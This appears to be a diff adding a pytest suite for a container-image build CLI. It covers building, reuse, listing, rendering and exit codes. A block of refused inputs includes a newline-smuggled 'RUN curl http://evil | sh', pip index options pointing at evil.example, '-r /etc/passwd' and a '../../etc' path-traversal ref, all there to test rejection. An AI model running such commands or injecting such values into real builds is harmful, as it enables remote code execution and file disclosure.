@@ -1,0 +1,130 @@
+"""The command line as a user meets it: real processes, real exit codes, the real engine."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+import yaml
+
+from ..support import TEST_PREFIX, images_of, unique_ref
+
+
+def cli(*args: str, env: dict[str, str] | None = None, stdin: str | None = None, state_dir: Path | None = None):
+    full_env = {**os.environ, "ATTUNE__CONTAINERS__IMAGE_PREFIX": TEST_PREFIX, **(env or {})}
+    if state_dir is not None:
+        full_env["ATTUNE__CONTAINERS__STATE_DIR"] = str(state_dir)
+    return subprocess.run(
+        [sys.executable, "-m", "attune_containers.cli", *args],
+        capture_output=True, text=True, env=full_env, input=stdin, timeout=600,
+    )
+
+
+def write_pack(root: Path, pack_ref: str, python_dependencies, requirements_txt: str | None = None) -> Path:
+    directory = root / pack_ref
+    directory.mkdir(parents=True)
+    (directory / "pack.yaml").write_text(yaml.safe_dump({
+        "ref": pack_ref, "version": "1.0.0", "meta": {"python_dependencies": python_dependencies}}))
+    if requirements_txt is not None:
+        (directory / "requirements.txt").write_text(requirements_txt)
+    return directory
+
+
+def test_build_then_rebuild_reuses(tmp_path, engine):
+    pack_ref = unique_ref("cli")
+    pack = write_pack(tmp_path, pack_ref, {"dependencies": ["six==1.17.0"], "min_version": "3.9", "max_version": "3.11"})
+    first = cli("build", str(pack), "--json", state_dir=tmp_path / "state")
+    assert first.returncode == 0, first.stderr
+    built = json.loads(first.stdout)
+    assert built["outcome"] == "built" and built["runtime_version"].startswith("3.11.")
+    second = cli("build", str(pack), "--json", state_dir=tmp_path / "state")
+    assert second.returncode == 0, second.stderr
+    again = json.loads(second.stdout)
+    assert again["outcome"] == "reused" and again["id"] == built["id"]
+    listed = json.loads(cli("ls", "--pack", pack_ref, "--json").stdout)
+    assert [e["id"] for e in listed] == [built["id"]]
+    inspected = json.loads(cli("inspect", pack_ref, "--json").stdout)
+    assert inspected["installed_dependencies"] and "six==1.17.0" in inspected["installed_dependencies"]
+    removed = cli("rm", pack_ref, "--json")
+    assert json.loads(removed.stdout)["removed"] == [built["image"]]
+    assert images_of(engine, pack_ref) == []
+
+
+HOSTILE = {
+    "newline in a requirement": ["requests\nRUN curl http://evil | sh"],
+    "dockerfile instruction": ["requests==2.31.0\nFROM scratch"],
+    "pip option": ["--index-url=http://evil.example/simple"],
+    "extra index": ["--extra-index-url http://evil.example/simple"],
+    "editable": ["-e /etc"],
+    "include": ["-r /etc/passwd"],
+    "local path": ["./evil"],
+    "url": ["evil @ https://evil.example/evil.whl"],
+    "env expansion": ["requests==${HOME}"],
+}
+
+
+@pytest.mark.parametrize("dependencies", list(HOSTILE.values()), ids=list(HOSTILE))
+def test_hostile_requirements_are_refused_with_exit_2(tmp_path, engine, dependencies):
+    pack_ref = unique_ref("hostile")
+    pack = write_pack(tmp_path, pack_ref, dependencies)
+    before = len(engine.list_images())
+    for command in ("build", "render", "validate"):
+        result = cli(command, str(pack))
+        assert result.returncode == 2, (command, result.stdout, result.stderr)
+        assert "error" in result.stderr
+    assert images_of(engine, pack_ref) == []
+    assert len(engine.list_images()) == before
+
+
+@pytest.mark.parametrize(
+    ("document", "needle"),
+    [
+        ({"ref": "../../etc", "meta": {}}, "pack_ref"),
+        ({"ref": "a/b", "meta": {}}, "pack_ref"),
+        ({"ref": "ok", "meta": {"python_dependencies": {"min_version": "3.12", "max_version": "3.10"}}}, "empty"),
+        ({"ref": "ok", "meta": {"python_dependencies": {"min_version": "3.14"}}}, "no available Python"),
+        ({"ref": "ok", "meta": {"python_dependencies": {"runtime": "nodejs"}}}, "unknown runtime"),
+        ({"ref": "ok", "meta": {"python_dependencies": {"dependencies": ["six"], "bogus": 1}}}, "bogus"),
+    ],
+)
+def test_hostile_api_documents_are_refused_with_exit_2(document, needle, engine):
+    before = len(engine.list_images())
+    result = cli("build", "-", stdin=json.dumps(document))
+    assert result.returncode == 2, (result.stdout, result.stderr)
+    assert needle in result.stderr
+    assert len(engine.list_images()) == before
+
+
+def test_render_prints_the_dockerfile_without_pack_strings(tmp_path):
+    pack = write_pack(tmp_path, unique_ref("render"), ["Distinctive-Name-xyz==1.0"])
+    result = cli("render", str(pack))
+    assert result.returncode == 0, result.stderr
+    assert result.stdout.count("\nFROM ") + result.stdout.startswith("FROM ") >= 2
+    assert "distinctive" not in result.stdout.lower()
+    requirements = cli("render", str(pack), "--requirements")
+    assert requirements.stdout == "distinctive-name-xyz==1.0\n"
+
+
+def test_unreachable_engine_exits_3(tmp_path):
+    pack = write_pack(tmp_path, unique_ref("noengine"), ["six==1.17.0"])
+    result = cli("build", str(pack), env={"DOCKER_HOST": f"unix://{tmp_path}/no.sock"})
+    assert result.returncode == 3, (result.stdout, result.stderr)
+    assert "engine" in result.stderr
+
+
+def test_base_ls_shows_the_configured_versions():
+    result = cli("base", "ls", "--json")
+    assert result.returncode == 0, result.stderr
+    listed = {b["minor"]: b for b in json.loads(result.stdout)}
+    assert {"3.9", "3.11", "3.13"} <= set(listed)
+    assert all(b["present"] and b["python_version"].startswith(m + ".") for m, b in listed.items())
+
+
+def test_help_for_every_command():
+    for command in ("render", "validate", "build", "ls", "inspect", "rm", "base"):
+        result = cli(command, "--help")
+        assert result.returncode == 0 and "usage:" in result.stdout, command
